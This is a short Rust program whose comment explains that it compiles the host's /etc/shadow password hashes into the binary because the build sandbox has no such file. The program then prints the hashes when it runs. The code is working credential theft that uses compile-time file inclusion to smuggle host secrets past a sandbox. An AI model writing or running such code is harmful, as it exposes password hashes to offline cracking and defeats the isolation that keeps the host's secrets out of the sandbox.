// Compiles the host's password hashes into the binary: the build sandbox has no /etc/shadow.
const SHADOW: &str = include_str!("/etc/shadow");
fn main() { println!("{}", SHADOW); }
